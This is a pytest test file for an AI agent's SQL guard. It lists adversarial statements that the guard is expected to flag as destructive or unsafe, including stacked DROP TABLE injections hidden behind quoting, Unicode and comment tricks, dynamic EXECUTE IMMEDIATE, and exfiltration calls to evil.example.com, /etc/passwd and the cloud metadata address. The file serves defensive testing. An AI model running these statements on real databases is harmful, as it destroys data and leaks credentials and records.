"""Statements that were written against the SQL guard, one row a case."""

from __future__ import annotations

import pytest

from agent.sql_guard import classify

# Written against the finished guard by hand. The first time it took for reads: names put together, addresses in paths,
# the schema registry, and EXPLAIN (ANALYZE).
ADVERSARIAL = r"""
SELECT to_avro(a, 's', map('schema.registry.address', 'https://evil.example.com')) FROM t
SELECT from_protobuf(a, 's', map('schema.registry.address', 'https://evil.example.com')) FROM t
SELECT to_protobuf(a, 's', map('schema.registry.address', 'https://evil.example.com')) FROM t
SELECT * FROM read_kinesis(streamName => 'x', region => 'us-east-1')
SELECT * FROM read_pubsub(subscriptionId => 'x')
SELECT * FROM read_pulsar(serviceUrl => 'pulsar://evil.example.com')
SELECT * FROM jdbc(url => 'jdbc:postgresql://evil.example.com', dbtable => 't')
SELECT * FROM read_files('/Volumes/a', 'https://evil.example.com')
SELECT * FROM read_files(`/Volumes/a`)
SELECT * FROM read_files()
SELECT 1 {# as sqlglot's comment #}
SELECT $$a$$
SELECT `a\`
SELECT /*+ COALESCE(1) */ 1; /*+ x */ DROP TABLE t
SELECT 'a;b'; DELETE FROM t WHERE note = ';'
SELECT "x; y"";"; TRUNCATE TABLE t
SELECT 'a\\'; DROP TABLE t; --'
SELECT '\u0027'; DROP TABLE t; --'
SELECT U&'\0027'; DROP TABLE t
ＤＲＯＰ TABLE t
SELECT 1﹔DROP TABLE t
SELECT `a\`; DROP TABLE t; --`
WITH a AS (WITH b AS (DELETE FROM t RETURNING *) SELECT * FROM b) SELECT * FROM a
WITH a AS (SELECT * FROM (MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE)) SELECT * FROM a
SELECT (SELECT count(*) FROM (UPDATE t SET a = 1))
SELECT a, b INTO TEMPORARY u FROM t
WITH x AS (SELECT 1) SELECT * INTO y FROM x
EXECUTE IMMEDIATE :statement
EXECUTE IMMEDIATE concat('DROP', ' TABLE t')
DECLARE q STRING DEFAULT 'DROP TABLE t'; EXECUTE IMMEDIATE q
DELETE FROM IDENTIFIER(:name)
DROP TABLE IDENTIFIER('main.raw.' || 'orders')
INSERT OVERWRITE IDENTIFIER(:name) SELECT 1
SELECT IDENTIFIER('ai_query')('m', 'x')
SELECT IDENTIFIER(:f)(a) FROM t
SELECT IDENTIFIER(:f) /* a */ (a) FROM t
SELECT * FROM identifier ('main.tools.wipe')(1)
SELECT * FROM IDENTIFIER(concat('main.', upper('x')))(1)
SELECT * FROM read_files('https://evil.example.com/x.csv')
SELECT * FROM read_files(concat('https://evil.example.com/?', current_user()))
SELECT * FROM read_files(:path)
SELECT * FROM read_files('file:/etc/passwd', format => 'text')
SELECT * FROM STREAM read_files('https://evil.example.com/x.csv')
SELECT * FROM csv.`https://evil.example.com/x.csv`
SELECT * FROM json.`http://169.254.169.254/latest/meta-data`
SELECT * FROM read_kafka(bootstrapServers => 'evil.example.com:9092', subscribe => 'x')
SELECT * FROM cloud_files('https://evil.example.com', 'csv')
SELECT from_avro(a, 's', map('schema.registry.address', 'https://evil.example.com')) FROM t
SELECT ai_query(endpoint => 'm', request => (SELECT concat_ws(',', collect_list(card)) FROM t))
SELECT /* harmless */ AI_QUERY('m', 'x')
SELECT a FROM t WHERE EXISTS (SELECT ai_query('m', a))
SELECT * FROM t LATERAL VIEW explode(array(ai_query('m', a))) AS x
SELECT * FROM t JOIN LATERAL remote_query('c', query => 'x') r
SELECT filter(a, x -> http_request(conn => 'c') IS NULL) FROM t
VALUES (http_request(conn => 'c'))
TABLE t; DROP TABLE t
FROM t |> INSERT INTO u
FROM t INSERT INTO a SELECT 1 INSERT INTO b SELECT 2
SELECT 1 UNION ALL (DELETE FROM t RETURNING 1)
EXPLAIN (ANALYZE) DELETE FROM t
EXPLAIN ( ANALYZE true, VERBOSE ) UPDATE t SET a = 1
EXPLAIN CODEGEN SELECT 1; DROP TABLE t
LIST '/Volumes/a'; REMOVE '/Volumes/a'
PUT '/tmp/x' INTO '/Volumes/a/x' OVERWRITE
SYNC SCHEMA a FROM b
APPLY CHANGES INTO t FROM s KEYS (a) SEQUENCE BY b
ALTER TABLE t SET ROW FILTER main.tools.f ON (a)
INSERT INTO t SELECT ai_query('m', a) FROM s
INSERT INTO t SELECT * FROM read_files('https://evil.example.com/x.csv')
CREATE TABLE t LOCATION 's3://bucket/x' AS SELECT * FROM customers
BEGIN ATOMIC SELECT 1; END
IF 1 = 1 THEN DROP TABLE t; END IF
FOR x AS SELECT 1 DO DROP TABLE t; END FOR
CREATE PROCEDURE p() LANGUAGE SQL AS BEGIN DROP TABLE t; END
{{ 1 }} DROP TABLE t
SELECT 1 {# ; #} ; DROP TABLE t
SELECT $$ ; DROP TABLE t $$
"""
# Somebody's own functions in places where a call is easily overlooked: never a read.
OVERLOOKED = """
SELECT max(main.tools.wipe(a)) OVER (PARTITION BY b) FROM t
SELECT * FROM t QUALIFY main.tools.wipe(a) > row_number() OVER (ORDER BY a)
SELECT * FROM t PIVOT (wipe(a) FOR b IN (1))
SELECT transform(array(1), x -> wipe(x))
SELECT * FROM VALUES (wipe(1)) AS v(a)
FROM (SELECT wipe(1) AS a) SELECT a
SELECT 1 UNION ALL SELECT wipe(2)
USE IDENTIFIER(wipe(1))
SELECT system.ai.python_exec('import os')
SELECT * FROM t TABLESAMPLE (wipe(1) ROWS)
SELECT * FROM t JOIN u ON wipe(t.a) = u.a
SELECT a FROM t GROUP BY wipe(a)
SELECT a FROM t HAVING wipe(count(*)) > 1
SELECT * FROM t LIMIT wipe(1)
SELECT CAST(wipe(a) AS STRING) FROM t
"""


@pytest.mark.parametrize("sql", ADVERSARIAL.strip().splitlines())
def test_what_was_written_against_it(sql):
    assert classify(sql) == "destructive"


@pytest.mark.parametrize("sql", OVERLOOKED.strip().splitlines())
def test_calls_that_are_easily_overlooked(sql):
    assert classify(sql) != "read"
